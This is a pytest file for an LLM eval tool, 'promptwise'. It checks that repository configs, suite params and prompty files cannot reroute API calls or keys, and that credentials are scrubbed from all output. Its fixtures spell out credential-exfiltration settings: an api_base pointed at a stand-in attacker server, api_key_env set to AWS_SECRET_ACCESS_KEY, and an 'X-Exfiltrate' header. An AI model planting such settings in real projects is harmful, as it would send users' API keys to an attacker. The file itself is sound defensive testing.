"""Where calls go is the user's decision: a repository's config, suite or prompt cannot send a call (or a key)
to a host; the destinations are shown before every run; every credential is scrubbed, whatever its length."""

from __future__ import annotations

import json

import pytest
from fake_server import FakeLLMServer, Rule

from promptwise.evals import RunOptions, Routing, destinations, load_suite, run_suite

SUITE = """
models: [fake-gpt]
cases:
  - name: one
    vars: {ticket: my desk is late}
    assert: [{type: contains, value: late}]
"""


@pytest.fixture(scope="module")
def evil():
    """A second loopback server standing for the attacker's host: it must never be called."""
    server = FakeLLMServer().start()
    yield server
    server.stop()


def hostile_config(url: str) -> str:
    return f"""
default_model = "fake-gpt"

[evals]
api_base = "{url}"
api_key_env = "AWS_SECRET_ACCESS_KEY"
retries = 0
timeout = 5

[models."fake-gpt"]
provider = "openai"
api_base = "{url}"
api_key_env = "AWS_SECRET_ACCESS_KEY"
litellm_model = "openai/stolen"
input_cost_per_million = 1.0
output_cost_per_million = 2.0
context_window = 100000
"""


def test_a_repository_config_cannot_choose_the_host_or_the_key(project, evil, cli, monkeypatch):
    evil.reset()
    aws = "AWSSECRETvalue0123456789abcdefghijklmnop"
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", aws)
    project.write("promptwise.toml", hostile_config(evil.url))
    project.server.reply(None, "your desk is late")
    project.suite(SUITE)
    result = cli("eval", cwd=project.root)
    assert result.code == 0, result.out + result.err
    assert evil.received == []
    (call,) = project.server.calls()
    assert call.body["model"] == "fake-gpt"  # through the user's gateway, not the repository's litellm_model
    assert aws not in json.dumps(call.headers) and aws not in result.out + result.err
    # Each ignored setting is one warning naming the file and where the setting belongs instead.
    warnings = [line for line in result.err.splitlines() if line.startswith("warning: ")]
    assert len(warnings) == 5, result.err
    assert any("promptwise.toml: evals.api_base" in w and "is ignored" in w and "--api-base" in w for w in warnings)
    assert any('models."fake-gpt".litellm_model' in w and 'under [models."fake-gpt"] in' in w for w in warnings)
    # Before any call: the destination, who chose it, and the variable whose key is sent.
    port = project.server.url.split(":")[2].split("/")[0]
    assert f"  fake-gpt -> 127.0.0.1:{port} [" in result.err and "config.toml [evals]]" in result.err
    assert result.err.index("calls go to:") < result.err.index("eval: 1 case runs")
    saved = json.loads(next((project.root / ".promptwise" / "runs").glob("*/results.json")).read_text())
    assert saved["destinations"][0]["host"] == f"127.0.0.1:{port}" and saved["destinations"][0]["key_env"] is None
    assert any("evals.api_base" in w for w in saved["suites"][0]["warnings"])


async def test_suite_params_cannot_route_or_carry_credentials(project, evil, monkeypatch):
    evil.reset()
    monkeypatch.setenv("OPENAI_API_KEY", "sk-" + "o" * 37)
    project.server.reply(None, "your desk is late")
    suite = project.suite(
        SUITE
        + f"""params:
  temperature: 0
  api_base: {evil.url}
  base_url: {evil.url}
  api_key: os.environ/OPENAI_API_KEY
  extra_headers: {{X-Exfiltrate: yes}}
  custom_llm_provider: openai
  mock_response: pwned
"""
    )
    loaded = load_suite(suite)
    warnings = {p.message.split(" ", 1)[0]: p for p in loaded.problems}
    assert loaded.ok and set(warnings) == {
        "params.api_base", "params.base_url", "params.api_key", "params.extra_headers", "params.custom_llm_provider", "params.mock_response"
    }  # fmt: skip
    assert all(p.severity == "warning" for p in loaded.problems)
    assert warnings["params.api_base"].line == 7 and "cannot choose where calls go" in warnings["params.api_base"].message
    assert "not a call parameter" in warnings["params.mock_response"].message
    result = await run_suite(loaded)
    assert [r.status for r in result.results] == ["passed"]
    assert evil.received == []
    (call,) = project.server.calls()
    assert call.body["temperature"] == 0
    assert not {"api_base", "base_url", "api_key", "extra_headers", "mock_response"} & set(call.body)
    assert "X-Exfiltrate" not in call.headers and "sk-ooo" not in json.dumps(call.headers)


def test_destinations_without_user_routing_are_the_providers_own(tmp_path, user_config, monkeypatch):
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
    monkeypatch.delenv("OPENAI_API_BASE", raising=False)
    monkeypatch.delenv("ANTHROPIC_BASE_URL", raising=False)
    monkeypatch.delenv("ANTHROPIC_API_BASE", raising=False)
    (tmp_path / "promptwise.toml").write_text(hostile_config("http://evil.invalid/v1"))
    (tmp_path / "triage.prompty").write_text("---\nmodel: gpt-4o\n---\nsystem:\nHi {{ticket}}\n")
    suite = tmp_path / "triage.evals.yaml"
    suite.write_text(
        "models: [gpt-4o, claude-sonnet-4-5]\njudge_model: gpt-4o-mini\ncases:\n"
        "  - vars: {ticket: x}\n    assert: [{type: llm-rubric, value: polite}]\n"
    )
    found = {(d.model, d.role): d for d in destinations([suite])}
    assert found[("gpt-4o", "model")].host == "api.openai.com"
    assert found[("gpt-4o", "model")].source == "the provider's own endpoint"
    assert found[("gpt-4o", "model")].key_env == "OPENAI_API_KEY"
    assert found[("claude-sonnet-4-5", "model")].host == "api.anthropic.com"
    assert found[("gpt-4o-mini", "judge")].host == "api.openai.com"
    assert all("evil" not in d.host for d in found.values())
    # A flag (or the editor's user settings) routes every model, and says so.
    flagged = destinations([suite], RunOptions(routing=Routing("http://127.0.0.1:4000", "PROXY_KEY", "--api-base")))
    assert {(d.host, d.source, d.key_env) for d in flagged} == {("127.0.0.1:4000", "--api-base", "PROXY_KEY")}
    # The user's own environment moves a provider's endpoint, and that is shown too.
    monkeypatch.setenv("OPENAI_BASE_URL", "https://gateway.example.com/v1")
    moved = {(d.model, d.role): d for d in destinations([suite])}[("gpt-4o", "model")]
    assert (moved.host, moved.source) == ("gateway.example.com", "$OPENAI_BASE_URL in your environment")


async def test_a_prompty_endpoint_is_not_called(project, evil):
    evil.reset()
    project.write(
        "triage.prompty",
        f"---\nmodel:\n  api: chat\n  configuration:\n    type: azure_openai\n    azure_endpoint: {evil.url}\n"
        "    azure_deployment: fake-gpt\n  parameters: {max_tokens: 50}\n---\nsystem:\nTriage.\n\nuser:\n{{ticket}}\n",
    )
    project.server.reply(None, "late")
    result = await run_suite(project.suite(SUITE))
    assert [r.status for r in result.results] == ["passed"] and evil.received == []
    assert any("model.configuration (azure_endpoint) is not used by evals" in w for w in result.suites[0].warnings)


KEYS = {
    "OPENAI_API_KEY": "sk-" + "o" * 37,  # 40 characters
    "ANTHROPIC_API_KEY": "sk-ant-12345",  # 12
    "LITELLM_MASTER_KEY": "sk-1234",  # 7: LiteLLM's documented master key
    "VERTEX_CREDENTIALS": '{"private_key": "-----BEGIN PRIVATE KEY-----MIIEvQIBADANBgkqhkiG9w0BAQEFAASC"}',
}


def test_credentials_of_any_length_never_reach_anything_written_or_printed(project, cli, monkeypatch):
    for name, value in KEYS.items():
        monkeypatch.setenv(name, value)
    echo = " ".join(KEYS.values())
    project.server.reply("echo", f"TRIAGE: echo {echo}", tool_calls=None)
    project.server.add(Rule(match="reject", status=400, error_body={"error": {"message": f"bad keys {echo}", "type": "invalid_request_error"}}))
    project.suite(
        """
models: [fake-gpt]
cases:
  - name: echo
    vars: {ticket: echo}
    assert: [{type: contains, value: nothing-like-this}]
  - name: reject
    vars: {ticket: reject}
    assert: [{type: contains, value: x}]
"""
    )
    out = project.root / "out"
    result = cli("eval", "--json", str(out / "r.json"), "--junit", str(out / "j.xml"), "--report", str(out / "r.html"), cwd=project.root)
    again = cli("eval", "--json", "-", "--report", str(out / "r.md"), cwd=project.root)  # from the cache, JSON on stdout
    assert result.code == 2 and again.code == 2
    data = json.loads((out / "r.json").read_text())
    assert data["results"][0]["output"] == "TRIAGE: echo *** *** *** ***"
    assert "bad keys *** *** *** ***" in data["results"][1]["error"]
    texts = [p.read_text(errors="replace") for p in project.root.rglob("*") if p.is_file()]
    texts += [result.out, result.err, again.out, again.err]
    assert len(texts) > 6
    for value in KEYS.values():
        assert not any(value in t for t in texts), value
    assert not any("MIIEvQIBADANBgkqhkiG9w0BAQEFAASC" in t for t in texts)


def test_what_counts_as_a_credential(monkeypatch):
    from promptwise.evals.secrets import Secrets

    env = {
        "LITELLM_MASTER_KEY": "sk-1234",
        "AWS_SESSION_TOKEN": "tok-1",
        "AZURE_CLIENT_SECRET": "azsecret",
        "WATSONX_APIKEY": "wxkey99",
        "DATABASE_URL": "postgres://u:pw123@db/x",
        "MY_EVAL_VAR": "abc",  # named by api_key_env: a key whatever its name or length
        "DEPLOY_KEY_MODE": "production",  # a setting that mentions KEY, not a credential
        "DEBUG_TOKEN": "1",  # a switch
        "OPENAI_API_KEY": "none",  # a placeholder local servers accept
        "PWD": "/home/me",
    }
    secrets = Secrets(["MY_EVAL_VAR"], environ=env)
    text = "sk-1234 tok-1 azsecret wxkey99 postgres://u:pw123@db/x abc production 1 none /home/me"
    assert secrets.scrub(text) == "*** *** *** *** *** *** production 1 none /home/me"
